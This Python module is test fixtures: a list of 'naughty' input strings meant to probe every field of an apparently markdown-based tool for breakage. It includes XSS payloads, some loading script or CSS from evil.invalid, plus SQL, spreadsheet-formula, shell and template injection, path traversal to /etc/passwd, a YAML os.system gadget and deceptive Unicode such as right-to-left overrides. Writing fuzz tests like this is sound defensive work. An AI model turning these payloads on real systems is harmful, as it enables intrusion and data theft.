r"""Strings that break programs: one or a few of every kind known, written for these tests.

`NAUGHTY` is tried in every field by `make test`; `all_strings` adds the list that `PRECIS_NAUGHTY_STRINGS` names, a JSON list such
as `blns.json` of github.com/minimaxir/big-list-of-naughty-strings. Strings that show that a script ran set `window.hit`.
"""

from __future__ import annotations

import json
import os
import re
import unicodedata
from collections.abc import Iterable
from pathlib import Path

MARKUP = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=2</script>",
    "<SCRIPT/x SRC=//evil.invalid/x.js></SCRIPT>",
    "<<script>window.hit=3//<</script>",
    "<img src=x onerror=window.hit=4>",
    '"><svg/onload=window.hit=5>',
    "'><input autofocus onfocus=window.hit=6>",
    "<iframe srcdoc='<script>parent.hit=7</script>'></iframe>",
    '<a href="java\tscript:window.hit=8">x</a>',
    "<style>@import'//evil.invalid/x.css';body{display:none}</style>",
    "<base href=//evil.invalid/><link rel=stylesheet href=x>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid/>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=9>",
    "<details open ontoggle=window.hit=10><template><object data=data:text/html,x>",
    "<!--><img src=x onerror=window.hit=11>--> <![CDATA[ x ]]> <?php echo 1 ?>",
    "&lt;script&gt;window.hit=12&lt;/script&gt; &#60;b&#62; &#x3C;i&#x3E; &amp;amp; &notanentity;",
    "\\u003cscript\\u003ewindow.hit=13\\u003c/script\\u003e %3Cscript%3E",
    "＜script＞window.hit=14＜/script＞",
    "</title></textarea></style></noscript><img src=x onerror=window.hit=15>",
    "javascript:window.hit=16",
    "` onmouseover=window.hit=17 `style=x:expression(window.hit=18)`",
)
MARKDOWN = (
    "[click](javascript:window.hit=20) ![x](http://evil.invalid/pixel.png) [ref]: //evil.invalid 'x'",
    "[a](data:text/html;base64,PHNjcmlwdD4=) <javascript:window.hit=21> [b](vbscript:x)",
    '{: onclick="window.hit=22" } a { .class #id style=color:red }',
    '--8<-- "mkdocs.yml" ;--8<-- "/etc/passwd"',
    "{{ 7 * 7 }} {% raw %} {# c #} ${7*7} #{7*7} <%= 7*7 %> {{config.items()}}",
    "*[HTML]: an abbreviation [^1]: a note [^1] [TOC] \\[x\\]",
    ":smile: :material-skull: ++ctrl+alt+del++ ==mark== ^^ins^^ ~~del~~ {++add++} {--del--} H~2~O x^2^",
    "$x^2$ $$\\int$$ \\(a\\) \\[b\\] a_b_c **d** __e__ *f* `g` ~~h~~",
    '!!! danger "x" ??? note "y" === "Tab" | a | b | --- ***',
    "```js x=1``` ~~~ # h ## h > q 1. one - two + three Title === ---",
)
CODE = (
    "'; DROP TABLE briefings;-- 1' OR '1'='1",
    "=cmd|' /C calc'!A0 +1+1 -1+1 @SUM(1)",
    "$(touch /tmp/hit) `touch /tmp/hit` ; rm -rf x & | > < \\ ../../../etc/passwd",
    '#panic() $x^2$ @ref <label> #set page(width: 1pt) #read("/etc/passwd") /* c */ // d',
    "!!python/object/apply:os.system ['x'] &a [*a] {a: b} - c: d # e",
    '","hit":1,"a":"\\" }]}; window.hit=30; //',
    "%s %d %n %x %p {0} {} {a.__class__} %(a)s %%",
    "null undefined NaN Infinity None true false 0x1F 1e309 -0.0 1/0",
    "constructor __proto__ hasOwnProperty toString prototype",
)
LETTERS = (
    "田中さん 部落格 찦차를 Ω≈ç√∫ ﷽ ﷺ Ⱥ Ⱦ ß İ ı ﬁ",
    "👩🏽‍🚀 👨‍👩‍👧 🏳️‍🌈 🇨🇦 0️⃣ ✋🏿 (╯°□°）╯",
    "مُنَاقَشَةُ سُبُلِ הָיְתָה test می‌خواهم क्‍ष",
    "T̸̢o̷ ŗ̶e̸̕ą̴d̷",
    "a\u202egnp.exe\u202c b \u2066c\u2069 d",
    "pass\u200bword of\u2060fice ad\ufeffmin b\u00adc",
    "ǝpᴉsdn 𝔣𝔯𝔞𝔨 𝓼𝓬𝓻 ⒝⒪⒳ ｆｕｌｌ раураl",
    "a\u2028b\u2029c\u0085d\u00a0e\u3000f\u180eg",
    "\ue000\ue001\uf8ff \ufdd0 \U0001fffe x",
    "x" * 300,
    "ﬀ" * 20 + "!" * 40 + "…" * 20,
)
NAUGHTY = (*MARKUP, *MARKDOWN, *CODE, *LETTERS)


def all_strings() -> tuple[str, ...]:
    """Those above, and those of the list that the environment names."""
    listed = os.environ.get("PRECIS_NAUGHTY_STRINGS")
    more: Iterable[str] = json.loads(Path(listed).read_text(encoding="utf-8")) if listed else ()
    return (*NAUGHTY, *more)


def on_one_line(text: str) -> str:
    """The string as a line of a seed can hold it: white space is one space, and there are no control characters and halves of characters."""
    kept = "".join(c for c in text if unicodedata.category(c) not in {"Cc", "Cs"} or c.isspace())
    return unicodedata.normalize("NFC", " ".join(re.split(r"\s+", kept)).strip())
